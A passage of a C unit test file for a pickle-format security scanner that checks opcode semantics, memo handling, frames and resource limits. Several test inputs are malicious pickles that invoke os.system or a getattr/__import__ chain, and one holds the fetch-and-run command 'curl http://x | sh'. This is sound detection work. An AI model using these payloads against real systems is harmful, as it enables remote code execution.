/* Unit tests for the pickle VM: every opcode, its success and its error
 * paths, and the semantics scanners get wrong (memo, frames, dotted names,
 * compat names, joblib arrays, derived globals). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan.h"

typedef struct vm_case {
    const char *name;
    const char *bytes;
    size_t len;
    int complete;         /* stream 0 reached STOP */
    int code;             /* a finding with this code must exist (0: no finding at all) */
    const char *globals;  /* ";"-joined resolved module.name of stream 0, NULL: don't check */
    const char *calls;    /* ";"-joined callees of stream 0, NULL: don't check */
} vm_case;

#define B(s) s, sizeof(s) - 1

static const vm_case cases[] = {
    /* MARK, STOP, POP, POP_MARK, DUP */
    {"mark_tuple", B("(K\x01K\x02t."), 1, 0, "", ""},
    {"stop_empty", B("."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"pop", B("K\x01K\x02" "0."), 1, 0, "", ""},
    {"pop_underflow", B("0."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"pop_removes_mark", B("K\x01(0."), 1, 0, "", ""},
    {"pop_above_mark", B("K\x01(K\x02" "00."), 1, 0, "", ""},
    {"pop_mark", B("K\x01(K\x02" "1."), 1, 0, "", ""},
    {"pop_mark_missing", B("1."), 0, PJ_MARK_MISSING, "", ""},
    {"dup", B("K\x01" "2\x86."), 1, 0, "", ""},
    {"dup_underflow", B("2."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"unexpected_mark", B("(."), 0, PJ_UNEXPECTED_MARK, "", ""},
    /* numbers */
    {"float", B("F1.5\n."), 1, 0, "", ""},
    {"float_bad", B("Fabc\n."), 0, PJ_BAD_LITERAL, "", ""},
    {"float_truncated", B("F1.5"), 0, PJ_TRUNCATED, "", ""},
    {"int", B("I42\n."), 1, 0, "", ""},
    {"int_bool", B("I01\n."), 1, 0, "", ""},
    {"int_octal_like_strtol", B("I010\n."), 1, 0, "", ""},
    {"int_big", B("I123456789012345678901234567890\n."), 1, 0, "", ""},
    {"int_bad", B("Ixyz\n."), 0, PJ_BAD_LITERAL, "", ""},
    {"int_empty_line_is_zero", B("I\n."), 1, 0, "", ""},
    {"int_nul_before_digits_is_zero", B("I\x00" "1\n."), 1, 0, "", ""},
    {"int_blank_is_bad", B("I  \n."), 0, PJ_BAD_LITERAL, "", ""},
    {"binint", B("J\xff\xff\xff\xff."), 1, 0, "", ""},
    {"binint_truncated", B("J\x01"), 0, PJ_TRUNCATED, "", ""},
    {"binint1", B("K\x07."), 1, 0, "", ""},
    {"binint1_truncated", B("K"), 0, PJ_TRUNCATED, "", ""},
    {"binint2", B("M\x01\x02."), 1, 0, "", ""},
    {"binint2_truncated", B("M\x01"), 0, PJ_TRUNCATED, "", ""},
    {"long", B("L123L\n."), 1, 0, "", ""},
    {"long_bad", B("L12a\n."), 0, PJ_BAD_LITERAL, "", ""},
    {"long1", B("\x8a\x02\xff\x00."), 1, 0, "", ""},
    {"long1_big", B("\x8a\x09\x01\x02\x03\x04\x05\x06\x07\x08\x09."), 1, 0, "", ""},
    {"long1_truncated", B("\x8a\x05\x01"), 0, PJ_TRUNCATED, "", ""},
    {"long4", B("\x8b\x01\x00\x00\x00\x05."), 1, 0, "", ""},
    {"long4_negative", B("\x8b\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
    {"binfloat", B("G?\xf8\x00\x00\x00\x00\x00\x00."), 1, 0, "", ""},
    {"binfloat_truncated", B("G?\xf8"), 0, PJ_TRUNCATED, "", ""},
    /* strings and bytes */
    {"string", B("S'abc'\n."), 1, 0, "", ""},
    {"string_escapes", B("S'a\\x41\\n\\'\\101'\n."), 1, 0, "", ""},
    {"string_unquoted", B("Sabc\n."), 0, PJ_BAD_LITERAL, "", ""},
    {"string_bad_hex", B("S'a\\x4'\n."), 0, PJ_BAD_LITERAL, "", ""},
    {"binstring", B("T\x03\x00\x00\x00" "abc."), 1, 0, "", ""},
    {"binstring_negative", B("T\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
    {"short_binstring", B("U\x03" "abc."), 1, 0, "", ""},
    {"short_binstring_truncated", B("U\x05" "ab"), 0, PJ_TRUNCATED, "", ""},
    {"binbytes", B("B\x02\x00\x00\x00hi."), 1, 0, "", ""},
    {"binbytes_truncated", B("B\x10\x00\x00\x00hi"), 0, PJ_TRUNCATED, "", ""},
    {"short_binbytes", B("C\x02hi."), 1, 0, "", ""},
    {"short_binbytes_truncated", B("C\x09hi"), 0, PJ_TRUNCATED, "", ""},
    {"binbytes8", B("\x8e\x02\x00\x00\x00\x00\x00\x00\x00hi."), 1, 0, "", ""},
    {"binbytes8_huge", B("\x8e\xff\xff\xff\xff\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
    {"binbytes8_past_end", B("\x8e\x00\x00\x00\x00\x00\x00\x00\x40"), 0, PJ_TRUNCATED, "", ""},
    {"bytearray8", B("\x96\x02\x00\x00\x00\x00\x00\x00\x00hi."), 1, 0, "", ""},
    {"bytearray8_truncated", B("\x96\x09\x00\x00\x00\x00\x00\x00\x00hi"), 0, PJ_TRUNCATED, "", ""},
    {"unicode", B("Vab\\u0041\n."), 1, 0, "", ""},
    {"unicode_bad_escape", B("Va\\u00\n."), 0, PJ_BAD_ENCODING, "", ""},
    {"short_binunicode", B("\x8c\x02hi."), 1, 0, "", ""},
    {"short_binunicode_bad_utf8", B("\x8c\x02\xff\xfe."), 0, PJ_BAD_ENCODING, "", ""},
    {"short_binunicode_truncated", B("\x8c\x05hi"), 0, PJ_TRUNCATED, "", ""},
    {"binunicode", B("X\x02\x00\x00\x00hi."), 1, 0, "", ""},
    {"binunicode_truncated", B("X\x02\x00"), 0, PJ_TRUNCATED, "", ""},
    {"binunicode8", B("\x8d\x02\x00\x00\x00\x00\x00\x00\x00hi."), 1, 0, "", ""},
    {"binunicode8_huge", B("\x8d\xff\xff\xff\xff\xff\xff\xff\xff"), 0, PJ_BAD_LENGTH, "", ""},
    /* buffers, constants */
    {"next_buffer", B("\x97."), 1, PJ_OUT_OF_BAND_BUFFER, "", ""},
    {"readonly_buffer", B("\x97\x98."), 1, PJ_OUT_OF_BAND_BUFFER, "", ""},
    {"readonly_buffer_underflow", B("\x98."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"none", B("N."), 1, 0, "", ""},
    {"newtrue", B("\x88."), 1, 0, "", ""},
    {"newfalse", B("\x89."), 1, 0, "", ""},
    /* containers */
    {"empty_list", B("]."), 1, 0, "", ""},
    {"append", B("]K\x01" "a."), 1, 0, "", ""},
    {"append_underflow", B("K\x01" "a."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"append_to_tuple", B(")K\x01" "a."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
    {"appends", B("](K\x01K\x02" "e."), 1, 0, "", ""},
    {"appends_no_list", B("(K\x01" "e."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"appends_no_mark", B("]K\x01" "e."), 0, PJ_MARK_MISSING, "", ""},
    {"list", B("(K\x01l."), 1, 0, "", ""},
    {"list_no_mark", B("l."), 0, PJ_MARK_MISSING, "", ""},
    {"empty_tuple", B(")."), 1, 0, "", ""},
    {"tuple", B("(t."), 1, 0, "", ""},
    {"tuple_no_mark", B("t."), 0, PJ_MARK_MISSING, "", ""},
    {"tuple1", B("K\x01\x85."), 1, 0, "", ""},
    {"tuple1_underflow", B("\x85."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"tuple2", B("K\x01K\x02\x86."), 1, 0, "", ""},
    {"tuple2_underflow", B("K\x01\x86."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"tuple3", B("K\x01K\x02K\x03\x87."), 1, 0, "", ""},
    {"tuple3_underflow", B("K\x01K\x02\x87."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"empty_dict", B("}."), 1, 0, "", ""},
    {"dict", B("(K\x01K\x02" "d."), 1, 0, "", ""},
    {"dict_odd", B("(K\x01" "d."), 0, PJ_ODD_ITEMS, "", ""},
    {"setitem", B("}K\x01K\x02s."), 1, 0, "", ""},
    {"setitem_underflow", B("K\x01s."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"setitems", B("}(K\x01K\x02u."), 1, 0, "", ""},
    {"setitems_odd", B("}(K\x01u."), 0, PJ_ODD_ITEMS, "", ""},
    {"empty_set", B("\x8f."), 1, 0, "", ""},
    {"additems", B("\x8f(K\x01\x90."), 1, 0, "", ""},
    {"additems_on_list", B("](K\x01\x90."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
    {"append_to_dict", B("}K\x01" "a."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
    {"appends_to_set", B("\x8f(K\x01" "e."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
    {"appends_to_bytearray_goes_on", B("\x96\x01\x00\x00\x00\x00\x00\x00\x00x(K\x01" "e."), 1,
     0, "", ""},
    {"setitem_on_set", B("\x8fK\x01K\x02s."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
    {"setitems_on_list_str_index", B("]K\x01" "a(X\x01\x00\x00\x00" "aK\x01u."), 0,
     PJ_BAD_OPERAND_TYPE, "", ""},
    {"setitems_on_list_int_index", B("]K\x01" "a(K\x00K\x05u."), 1, 0, "", ""},
    {"setitem_on_list_any_int_index", B("]K\x07K\x05s."), 1, 0, "", ""},
    {"additems_on_object_goes_on", B("cx\nY\n(K\x01\x90."), 1, 0, "x.Y", ""},
    {"empty_additems_on_none_noop", B("N(\x90."), 1, 0, "", ""},
    {"frozenset", B("(K\x01\x91."), 1, 0, "", ""},
    {"frozenset_no_mark", B("\x91."), 0, PJ_MARK_MISSING, "", ""},
    /* memo */
    {"put_get", B("K\x01p0\n0g0\n."), 1, 0, "", ""},
    {"get_missing", B("g5\n."), 0, PJ_MEMO_MISSING, "", ""},
    {"put_negative", B("K\x01p-1\n."), 0, PJ_BAD_MEMO_KEY, "", ""},
    {"put_empty_line", B("K\x01p\n."), 0, PJ_TRUNCATED, "", ""},
    {"put_underflow", B("p0\n."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"binput_binget", B("K\x01q\x00" "0h\x00."), 1, 0, "", ""},
    {"binget_missing", B("h\x07."), 0, PJ_MEMO_MISSING, "", ""},
    {"long_binput_get", B("K\x01r\xff\xff\xff\xff" "0j\xff\xff\xff\xff."), 1, PJ_BAD_MEMO_KEY, "", ""},
    {"long_binget_missing", B("j\x01\x00\x00\x00."), 0, PJ_MEMO_MISSING, "", ""},
    {"memoize", B("\x80\x04K\x01\x94" "0h\x00."), 1, 0, "", ""},
    {"memoize_underflow", B("\x94."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"memoize_at_mark", B("K\x01q\x00(\x94N."), 0, PJ_UNEXPECTED_MARK, "", ""},
    {"binget_gap_in_memo", B("K\x01q\x00q\x02h\x01."), 0, PJ_MEMO_MISSING, "", ""},
    {"appends_target_below_mark", B("]((eN."), 0, PJ_UNEXPECTED_MARK, "", ""},
    /* MEMOIZE uses the number of memo entries, not the last PUT index. */
    {"memoize_after_put", B("\x80\x04\x8c\x02osq\x05" "0\x8c\x06system\x94" "0h\x05h\x01\x93."), 1, 0,
     "os.system", ""},
    /* extensions */
    {"ext1", B("\x82\x01."), 1, PJ_EXT_OPCODE, "copyreg._extension_registry[1]", ""},
    {"ext2", B("\x83\x01\x02."), 1, PJ_EXT_OPCODE, "copyreg._extension_registry[513]", ""},
    {"ext4_zero", B("\x84\x00\x00\x00\x00."), 0, PJ_BAD_LITERAL, NULL, ""},
    {"ext1_truncated", B("\x82"), 0, PJ_TRUNCATED, "", ""},
    /* globals */
    {"global", B("cos\nsystem\n."), 1, 0, "os.system", ""},
    {"global_truncated", B("cos\nsys"), 0, PJ_TRUNCATED, "", ""},
    {"global_compat_p2", B("\x80\x02" "c__builtin__\neval\n."), 1, 0, "builtins.eval", ""},
    {"global_compat_p0", B("ccopy_reg\n_reconstructor\n."), 1, 0, "copyreg._reconstructor", ""},
    {"global_no_compat_p3", B("\x80\x03" "c__builtin__\neval\n."), 1, 0, "__builtin__.eval", ""},
    {"global_dotted_p4", B("\x80\x04" "cpathlib\nos.system\n."), 1, 0, "pathlib.os.system", ""},
    {"global_dotted_p2_fails", B("\x80\x02" "cpathlib\nos.system\n."), 0, PJ_BAD_GLOBAL_NAME,
     "pathlib.os.system", ""},
    {"global_locals", B("\x80\x04" "cm\nf.<locals>.g\n."), 0, PJ_BAD_GLOBAL_NAME, NULL, ""},
    {"global_bad_utf8", B("c\xff\nx\n."), 0, PJ_BAD_ENCODING, "", ""},
    {"global_empty_module", B("c\nx\n."), 0, PJ_BAD_GLOBAL_NAME, NULL, ""},
    {"stack_global", B("\x8c\x02os\x8c\x06system\x93."), 1, 0, "os.system", ""},
    {"stack_global_not_str", B("K\x01K\x02\x93."), 0, PJ_BAD_OPERAND_TYPE, "", ""},
    {"stack_global_underflow", B("\x8c\x02os\x93."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"stack_global_string_ops", B("S'os'\nS'system'\n\x93S'ls'\n\x85R."), 1, 0, "os.system",
     "os.system"},
    /* calls */
    {"reduce", B("cos\nsystem\n(S'id'\ntR."), 1, 0, "os.system", "os.system"},
    {"reduce_not_tuple", B("cos\nsystem\nK\x01R."), 0, PJ_BAD_OPERAND_TYPE, "os.system", ""},
    {"reduce_underflow", B("R."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"reduce_then_pop", B("cos\nsystem\n(S'id'\ntR0N."), 1, 0, "os.system", "os.system"},
    {"build", B("cx\nY\n)R}b."), 1, 0, "x.Y", "x.Y;x.Y()"},
    {"build_underflow", B("b."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"build_on_plain_value_no_call", B("K\x01Nb."), 1, 0, "", ""},
    {"empty_appends_on_tuple_noop", B(")(e."), 1, 0, "", ""},
    {"empty_setitems_on_int_noop", B("K\x01(u."), 1, 0, "", ""},
    {"inst", B("(S'id'\nios\nsystem\n."), 1, 0, "os.system", "os.system"},
    {"inst_no_mark", B("ios\nsystem\n."), 0, PJ_MARK_MISSING, "", ""},
    {"obj", B("(cos\nsystem\nS'id'\no."), 1, 0, "os.system", "os.system"},
    {"obj_empty", B("(o."), 0, PJ_STACK_UNDERFLOW, "", ""},
    {"newobj", B("cx\nY\n)\x81."), 1, 0, "x.Y", "x.Y"},
    {"newobj_not_tuple", B("cx\nY\nK\x01\x81."), 0, PJ_BAD_OPERAND_TYPE, "x.Y", ""},
    {"newobj_ex", B("cx\nY\n)}\x92."), 1, 0, "x.Y", "x.Y"},
    {"newobj_ex_bad_kwargs", B("cx\nY\n)]\x92."), 0, PJ_BAD_OPERAND_TYPE, "x.Y", ""},
    {"getattr_chain",
     B("\x80\x02" "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR."),
     1, 0, "builtins.getattr;builtins.__import__;os.;os.system",
     "builtins.__import__;builtins.getattr;os.system"},
    /* protocol and frames */
    {"proto", B("\x80\x05N."), 1, 0, "", ""},
    {"proto_6", B("\x80\x06N."), 0, PJ_PROTO_UNSUPPORTED, "", ""},
    {"proto_truncated", B("\x80"), 0, PJ_TRUNCATED, "", ""},
    {"frame", B("\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00N."), 1, 0, "", ""},
    {"frame_truncated", B("\x95\x10\x00\x00\x00\x00\x00\x00\x00N."), 0, PJ_TRUNCATED, "", ""},
    {"frame_straddle", B("\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00\x8c\x05" "ahello."), 1,
     PJ_FRAME_STRADDLE, "", ""},
    {"frame_nested", B("\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x95\x01\x00\x00\x00\x00\x00\x00\x00N."),
     1, PJ_FRAME_NESTED, "", ""},
    /* The hot loop (fast_run) leaves anything that does not fit its buffer to step(). */
    {"frame_straddle_binint", B("\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00J\x01\x02\x03\x04N."),
     1, PJ_FRAME_STRADDLE, "", ""},
    {"binput_replaces_call", B("\x80\x02" "cos\nsystem\nq\x00" "0cposix\nsystem\nq\x00" "0h\x00X\x02\x00\x00\x00id\x85R."),
     1, 0, "os.system;posix.system", "posix.system"},
    {"binget_after_fast_puts", B("\x80\x04K\x01\x94K\x02\x94K\x03\x94" "000h\x03."), 0, PJ_MEMO_MISSING, "", ""},
    /* persistent ids */
    {"persid", B("PX\n."), 1, PJ_PERSISTENT_ID, "", ""},
    {"persid_non_ascii", B("P\xff\n."), 0, PJ_BAD_ENCODING, "", ""},
    {"binpersid_storage", B("(S'storage'\ncx\nY\nS'0'\nS'cuda:0'\nK\x01tQ."), 1, 0, "x.Y", ""},
    {"binpersid_other", B("K\x01Q."), 1, PJ_PERSISTENT_ID, "", ""},
    {"binpersid_underflow", B("Q."), 0, PJ_STACK_UNDERFLOW, "", ""},
    /* unknown opcode */
    {"unknown_opcode", B("\xff."), 0, PJ_UNKNOWN_OPCODE, "", ""},
    /* joblib: raw array bytes after the wrapper's BUILD, payload after them */
    {"joblib_array_then_payload",
     B("\x80\x02" "cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(U\x05shape"
       "K\x02\x85U\x05" "dtypecnumpy\ndtype\n(U\x02" "f8K\x00K\x01tRU\x05orderU\x01" "Cub"
       "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f"
       "cos\nsystem\n(U\x02idtR."),
     1, PJ_STACK_NOT_EMPTY, NULL, NULL},
};

static pj_report *run(const vm_case *c, bool *complete)
{
    pj_options o;
    pj_options_default(&o);
    pj_report *r = pj_report_new(1u << 26, 1000);
    assert_non_null(r);
    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
    size_t end;
    *complete = pj_scan_one_pickle(&ctx, (const uint8_t *)c->bytes, c->len, 0, "", 0, &end);
    return r;
}

static void join_globals(const pj_report *r, char *buf, size_t cap)
{
    buf[0] = '\0';
    for (size_t i = 0; i < r->n_globals; i++) {
        if (r->globals[i].stream != 0)
            continue;
        size_t l = strlen(buf);
        snprintf(buf + l, cap - l, "%s%s.%s", l ? ";" : "", r->globals[i].resolved_module,
                 r->globals[i].resolved_name);
    }
}

static void join_calls(const pj_report *r, char *buf, size_t cap)
{
    buf[0] = '\0';
    for (size_t i = 0; i < r->n_calls; i++) {
        if (r->calls[i].stream != 0)
            continue;
        size_t l = strlen(buf);
        snprintf(buf + l, cap - l, "%s%s", l ? ";" : "", r->calls[i].callee);
    }
}

static void check_case(const vm_case *c)
{
    bool complete;
    pj_report *r = run(c, &complete);
    char buf[1024];
    if ((int)complete != c->complete)
        fail_msg("%s: complete=%d, expected %d", c->name, complete, c->complete);
    if (c->code == 0) {
        for (size_t i = 0; i < r->n_findings; i++)
            if (r->findings[i].severity != PJ_SEV_INFO)
                fail_msg("%s: unexpected finding %s: %s", c->name, pj_code_id(r->findings[i].code),
                         r->findings[i].message);
    } else if (!pj_report_has_code(r, (pj_code)c->code)) {
        fail_msg("%s: missing finding PJ%d (have %zu findings%s%s)", c->name, c->code,
                 r->n_findings, r->n_findings ? ", first: " : "",
                 r->n_findings ? r->findings[0].message : "");
    }
    if (c->globals) {
        join_globals(r, buf, sizeof buf);
        if (strcmp(buf, c->globals) != 0)
            fail_msg("%s: globals '%s', expected '%s'", c->name, buf, c->globals);
    }
    if (c->calls) {
        join_calls(r, buf, sizeof buf);
        if (strcmp(buf, c->calls) != 0)
            fail_msg("%s: calls '%s', expected '%s'", c->name, buf, c->calls);
    }
    pj_report_free(r);
}

static void test_case(void **state) { check_case(*state); }

/* The same case behind a protocol-4 opcode (SHORT_BINUNICODE '' and POP):
 * from there the VM's hot loop (fast_run) takes every protocol 0-4 opcode it
 * knows, so each case also checks the loop's own bounds, stack, mark and memo
 * checks.  The copy is on the heap, exactly sized: ASan sees any over-read. */
static void test_case_hot(void **state)
{
    const vm_case *c = *state;
    static const char prefix[] = "\x8c\x00" "0";
    char *buf = malloc(c->len + sizeof prefix - 1);
    assert_non_null(buf);
    memcpy(buf, prefix, sizeof prefix - 1);
    memcpy(buf + sizeof prefix - 1, c->bytes, c->len);
    vm_case h = *c;
    h.bytes = buf;
    h.len = c->len + sizeof prefix - 1;
    check_case(&h);
    free(buf);
}

/* Every opcode byte of the table is exercised by some case above. */
static void test_all_opcodes_covered(void **state)
{
    (void)state;
    int seen[256] = {0};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        for (size_t k = 0; k < cases[i].len; k++)
            seen[(uint8_t)cases[i].bytes[k]] = 1;
    int names = 0;
    for (int b = 0; b < 256; b++) {
        if (pj_opcode_name((uint8_t)b) == NULL)
            continue;
        names++;
        if (!seen[b])
            fail_msg("opcode %s (0x%02x) has no test", pj_opcode_name((uint8_t)b), b);
    }
    assert_int_equal(names, 68);
}

/* Call arguments are summarised as expressions. */
static void test_call_rendering(void **state)
{
    (void)state;
    static const char p[] = "cos\nsystem\n(S'curl http://x | sh'\ntR.";
    vm_case c = {"render", p, sizeof p - 1, 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_int_equal(r->n_calls, 1);
    assert_string_equal(r->calls[0].callee, "os.system");
    assert_string_equal(r->calls[0].args, "('curl http://x | sh',)");
    assert_int_equal(r->calls[0].callee_global, 0);
    assert_true(r->globals[0].called);
    pj_report_free(r);
}

/* A memo/DUP "billion laughs" stays linear and renders bounded. */
static void test_billion_laughs(void **state)
{
    (void)state;
    static uint8_t buf[4096];
    size_t n = 0;
    buf[n++] = ']';
    buf[n++] = 'q';
    buf[n++] = 0;
    for (int i = 1; i < 60; i++) {
        buf[n++] = 'h'; buf[n++] = (uint8_t)(i - 1);
        buf[n++] = 'h'; buf[n++] = (uint8_t)(i - 1);
        buf[n++] = 0x86;
        buf[n++] = 'q'; buf[n++] = (uint8_t)i;
    }
    static const char tail[] = "cx\nY\n\x85R.";
    /* wrap the last tuple as the argument of x.Y */
    buf[n++] = '0';
    buf[n++] = 'c';
    memcpy(buf + n, "x\nY\nh;\x85R.", 10);
    n += 10;
    (void)tail;
    vm_case c = {"laughs", (const char *)buf, n, 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_int_equal(r->n_calls, 1);
    assert_true(strlen(r->calls[0].args) < 700);
    pj_report_free(r);
}

/* Limits are findings, not crashes. */
static void test_opcode_limit(void **state)
{
    (void)state;
    pj_options o;
    pj_options_default(&o);
    o.limits.max_opcodes = 3;
    pj_report *r = pj_report_new(1u << 24, 100);
    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
    size_t end;
    assert_false(pj_scan_one_pickle(&ctx, (const uint8_t *)"K\x01K\x02K\x03K\x04.", 9, 0, "", 0, &end));
    assert_true(pj_report_has_code(r, PJ_LIMIT_OPCODES));
    pj_report_free(r);
    /* In the hot loop (after a protocol-4 opcode): the 5th opcode is refused. */
    o.limits.max_opcodes = 4;
    r = pj_report_new(1u << 24, 100);
    ctx.report = r;
    assert_false(pj_scan_one_pickle(&ctx, (const uint8_t *)"\x8c\x00" "0K\x01K\x02K\x03.", 10, 0, "",
                                    0, &end));
    assert_int_equal(r->n_findings, 1);
    assert_int_equal(r->findings[0].code, PJ_LIMIT_OPCODES);
    assert_int_equal(r->findings[0].offset, 7);
    assert_int_equal(r->streams[0].opcodes, 5);
    pj_report_free(r);
}

/* The newest opcode's protocol and offset are recorded when the hot loop
 * would take it (MEMOIZE after PROTO 2, the memo already allocated). */
static void test_max_opcode_proto(void **state)
{
    (void)state;
    vm_case c = {"max_opcode_proto", B("\x80\x02K\x01q\x00\x94."), 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_string_equal(pj_report_get_meta(r, "stream.0.max_opcode_proto"), "4");
    assert_string_equal(pj_report_get_meta(r, "stream.0.max_opcode_offset"), "6");
    pj_report_free(r);
}

/* More than 5000 MARKs open at once are reported, in the hot loop too. */
static void test_many_marks(void **state)
{
    (void)state;
    enum { MARKS = 5001 };
    static char buf[3 + MARKS + 2];
    memcpy(buf, "\x8c\x00" "0", 3);
    memset(buf + 3, '(', MARKS);
    memcpy(buf + 3 + MARKS, "N.", 2);
    vm_case c = {"many_marks", buf, sizeof buf, 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_true(pj_report_has_code(r, PJ_LIMIT_NESTING));
    pj_report_free(r);
}

/* A memo key alternating between a value kept in a side slot (float) and a
 * packed one (str) reuses one slot: 100,000 rounds fit in a 1 MiB budget. */
static void test_memo_side_slots_reused(void **state)
{
    (void)state;
    enum { ROUNDS = 100000 };
    static const char round[] = "G?\xf8\x00\x00\x00\x00\x00\x00q\x00" "0\x8c\x01" "aq\x00" "0";
    size_t n = 2 + ROUNDS * (sizeof round - 1) + 2;
    char *buf = malloc(n);
    assert_non_null(buf);
    memcpy(buf, "\x80\x04", 2);
    for (size_t i = 0; i < ROUNDS; i++)
        memcpy(buf + 2 + i * (sizeof round - 1), round, sizeof round - 1);
    memcpy(buf + n - 2, "N.", 2);
    pj_options o;
    pj_options_default(&o);
    o.limits.max_arena_bytes = 1u << 20;
    pj_report *r = pj_report_new(1u << 24, 100);
    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
    size_t end;
    assert_true(pj_scan_one_pickle(&ctx, (const uint8_t *)buf, n, 0, "", 0, &end));
    assert_false(pj_report_has_code(r, PJ_LIMIT_ARENA));
    pj_report_free(r);
    free(buf);
}

static void test_memo_limit(void **state)
{
    (void)state;
    pj_options o;
    pj_options_default(&o);
    o.limits.max_memo = 2;
    pj_report *r = pj_report_new(1u << 24, 100);
    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
    size_t end;
    static const char p[] = "K\x01q\x00q\x01q\x02.";
    assert_false(pj_scan_one_pickle(&ctx, (const uint8_t *)p, sizeof p - 1, 0, "", 0, &end));
    assert_true(pj_report_has_code(r, PJ_LIMIT_MEMO));
    pj_report_free(r);
}

/* Everything before an error is kept, and scanning resumes at the next
 * pickle header behind garbage. */
static void test_payload_then_garbage_then_pickle(void **state)
{
    (void)state;
    static const char p[] = "cos\nsystem\n(S'a'\ntR\xff\xfe\xfd\x80\x02" "cposix\nsystem\n.";
    pj_options o;
    pj_options_default(&o);
    pj_report *r = pj_report_new(1u << 24, 100);
    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
    pj_scan_pickles(&ctx, (const uint8_t *)p, sizeof p - 1, "", 0);
    assert_int_equal(r->n_streams, 2);
    assert_true(pj_report_has_code(r, PJ_UNKNOWN_OPCODE));
    assert_true(pj_report_has_code(r, PJ_RESYNC));
    assert_int_equal(r->n_calls, 1);
    assert_string_equal(r->globals[1].resolved_module, "posix");
    pj_report_free(r);
}

static void test_extra_pickle_and_trailing(void **state)
{
    (void)state;
    static const char p[] = "N.\x80\x02N.\x00garbage";
    pj_options o;
    pj_options_default(&o);
    pj_report *r = pj_report_new(1u << 24, 100);
    pj_scan_ctx ctx = {r, &o.limits, 0, 0};
    assert_int_equal(pj_scan_pickles(&ctx, (const uint8_t *)p, sizeof p - 1, "", 0), 2);
    assert_true(pj_report_has_code(r, PJ_EXTRA_PICKLE));
    assert_true(pj_report_has_code(r, PJ_TRAILING_DATA));
    pj_report_free(r);
}

/* _sklearn_version is read from estimator state even when it comes after
 * more pairs than a dict normally keeps. */
static void test_sklearn_version_late_key(void **state)
{
    (void)state;
    static uint8_t buf[512];
    size_t n = 0;
    const char *head = "\x80\x02" "csk.m\nEst\n)\x81}(";
    memcpy(buf, head, strlen(head));
    n = strlen(head);
    for (int i = 0; i < 12; i++) {
        buf[n++] = 'U'; buf[n++] = 2; buf[n++] = 'k'; buf[n++] = (uint8_t)('a' + i);
        buf[n++] = 'K'; buf[n++] = (uint8_t)i;
    }
    const char *tail = "U\x10_sklearn_versionU\x05" "1.5.0ub.";
    memcpy(buf + n, tail, strlen(tail));
    n += strlen(tail);
    vm_case c = {"sklearn", (const char *)buf, n, 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_non_null(pj_report_get_meta(r, "sklearn.version"));
    assert_string_equal(pj_report_get_meta(r, "sklearn.version"), "1.5.0");
    assert_string_equal(pj_report_get_meta(r, "sklearn.estimator.0"), "0:114:1.5.0:sk.m.Est");
    pj_report_free(r);
}

/* A memo key first put in the sparse table (far beyond the entries so far)
 * is still found, and overwritten by MEMOIZE, once the dense array has grown
 * past it: CPython calls nt.system here. */
static void test_memo_sparse_then_dense(void **state)
{
    (void)state;
    enum { FILL = 4999 };
    static uint8_t buf[64 + FILL * 3 + 64];
    static const char head[] = "\x80\x04" "cos\nsystem\nr\x88\x13\x00\x00" "0"; /* key 5000 */
    memcpy(buf, head, sizeof head - 1);
    size_t n = sizeof head - 1;
    for (int i = 0; i < FILL; i++) {
        buf[n++] = 'N'; buf[n++] = 0x94; buf[n++] = '0';
    }
    static const char tail[] = "cposix\nsystem\n\x94" "0cnt\nsystem\n\x94" "0j\x88\x13\x00\x00"
                               "\x8c\x02id\x85R.";
    memcpy(buf + n, tail, sizeof tail - 1);
    n += sizeof tail - 1;
    vm_case c = {"memo_sparse_then_dense", (const char *)buf, n, 1, 0, NULL, NULL};
    bool complete;
    pj_report *r = run(&c, &complete);
    assert_true(complete);
    assert_false(pj_report_has_code(r, PJ_MEMO_MISSING));
    char calls[256];
    join_calls(r, calls, sizeof calls);
    assert_string_equal(calls, "nt.system");
    pj_report_free(r);
}

/* Stack and mark-list growth in the middle of the hot loop: 300 ints in a
